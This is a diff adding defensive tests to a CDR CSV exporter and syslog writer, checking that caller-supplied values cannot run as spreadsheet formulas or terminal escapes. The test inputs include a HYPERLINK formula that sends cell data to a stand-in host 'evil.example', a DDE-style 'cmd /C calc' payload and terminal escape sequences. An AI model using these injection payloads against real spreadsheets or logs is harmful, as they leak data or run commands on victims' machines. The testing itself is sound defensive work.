@@ -4,6 +4,7 @@ import { spawn } from 'node:child_process';
 import { mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import fc from 'fast-check';
 import t from 'tap';
 import { cdrCsv, csvField } from '../../../service/cc/cdr.js';
 import type { Cdr } from '../../../service/cc/types.js';
@@ -20,7 +21,52 @@ const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 t.test('CSV: the chosen fields in order, times ISO 8601, fields with commas or quotes quoted', async (t) => {
   t.equal(cdrCsv(cdr(), ['call_id', 'from', 'start', 'duration', 'amount', 'cause', 'code']),
     'c1@host,"""Joe, Jr."" <sip:joe@example.com>",2026-11-25T12:00:00.000Z,60,65,caller,');
-  t.equal(csvField('a\r\nb'), '"a  b"', 'a line break never splits a CDR line');
+  t.equal(csvField('a\r\nb'), 'a\\x0D\\x0Ab', 'a line break never splits a CDR line');
+});
+
+/** A CSV line's cells as a spreadsheet reads them (RFC 4180 quoting). */
+function cells(line: string): string[] {
+  const out: string[] = [];
+  let i = 0;
+  for (;;) {
+    let cell = '';
+    if (line[i] === '"') {
+      for (i++; i < line.length; i++) {
+        if (line[i] === '"' && line[i + 1] === '"') { cell += '"'; i++; } else if (line[i] === '"') { i++; break; } else cell += line[i];
+      }
+    } else {
+      while (i < line.length && line[i] !== ',') cell += line[i++];
+    }
+    out.push(cell);
+    if (line[i] !== ',') return out;
+    i++;
+  }
+}
+/** The escaping undone: the value the database holds. */
+const unescape = (v: string): string => v.replace(/^'(?=[=+\-@]|\\x09|\\x0D)/, '')
+  .replace(/\\(\\|x[0-9A-F]{2})/g, (_, e: string) => (e === '\\' ? '\\' : String.fromCharCode(Number.parseInt(e.slice(1), 16))));
+
+t.test('a caller-chosen value never runs as a formula, and control characters are escaped', async (t) => {
+  const line = cdrCsv(cdr({ callId: '=HYPERLINK("http://evil.example/?x="&A1,"click")', from: '=1+1 <sip:joe@example.com>', to: "@SUM(1+1)*cmd|' /C calc'!A0", ratePrefix: '-2+3' }),
+    ['call_id', 'from', 'to', 'rate_prefix', 'amount']);
+  t.equal(line, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'=1+1 <sip:joe@example.com>","'@SUM(1+1)*cmd|' /C calc'!A0","'-2+3",65`);
+  t.same(cells(line).map((c) => c[0]), ["'", "'", "'", "'", '6'], 'every cell a spreadsheet reads starts with a quote, not =, @ or -');
+  t.equal(csvField('\tcmd'), `"'\\x09cmd"`, 'a leading tab: neutralized, and escaped');
+  t.equal(csvField('\r=1'), `"'\\x0D=1"`, 'a leading CR');
+  t.equal(csvField('+31 20 555'), `"'+31 20 555"`, 'a leading +');
+  t.equal(csvField('evil\x1b[31mred\x07\u009b2J'), 'evil\\x1B[31mred\\x07\\x9B2J', 'ESC, BEL and CSI are escaped: a terminal or a log viewer runs nothing');
+  t.equal(csvField('a\\x1B'), 'a\\\\x1B', 'a backslash is escaped too, so an escape is never ambiguous');
+  t.equal(csvField('"Joe" <sip:joe@example.com>'), '"""Joe"" <sip:joe@example.com>"', 'ordinary values stay as they were');
+
+  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme-ascii', maxLength: 10 }), (a, b) => {
+    for (const v of [a, b, `${b}${a}`, `=${a}`, `-${b}`, `\t${a}`]) {
+      const l = cdrCsv(cdr({ callId: v, from: v }), ['call_id', 'from']);
+      if (/[\u0000-\u001f\u007f-\u009f]/.test(l)) return false;
+      const [c1, c2] = cells(l);
+      if (c1 !== c2 || /^[=+\-@\t\r]/.test(c1!) || unescape(c1!) !== v) return false;
+    }
+    return true;
+  }), { seed: 23, numRuns: 500 });
 });
 
 t.test('CDRs go to the file as they are written, appended', async (t) => {
@@ -45,9 +91,11 @@ while True: f.write(s.recv(65536) + b'\\n')`, sock, got]);
   t.teardown(() => server.kill());
   for (let i = 0; i < 50; i++) { try { readFileSync(sock); } catch (e) { if ((e as NodeJS.ErrnoException).code !== 'ENOENT') break; } await sleep(20); }
   const out = new CdrLog({ file: '', syslog: true, syslogSocket: sock, syslogTag: 'sca-cc-cdr', fields: ['call_id', 'amount'], log: quiet });
-  out.write([cdr()]);
+  out.write([cdr(), cdr({ callId: '=1+1\x1b]0;pwned\x07', amount: 7 })]);
   let text = '';
-  for (let i = 0; i < 100 && !text.includes('c1@host,65'); i++) { await sleep(20); try { text = readFileSync(got, 'utf8'); } catch { /* not yet */ } }
+  for (let i = 0; i < 100 && !text.includes(',7'); i++) { await sleep(20); try { text = readFileSync(got, 'utf8'); } catch { /* not yet */ } }
   await out.close();
   t.match(text, /<134>.*sca-cc-cdr.*: c1@host,65/, 'local0.info, tagged');
+  t.match(text, /sca-cc-cdr.*: "'=1\+1\\x1B\]0;pwned\\x07",7/, 'neutralized and escaped in syslog too');
+  t.notMatch(text, /[\x07\x1b]/, 'no control character reaches syslog');
 });
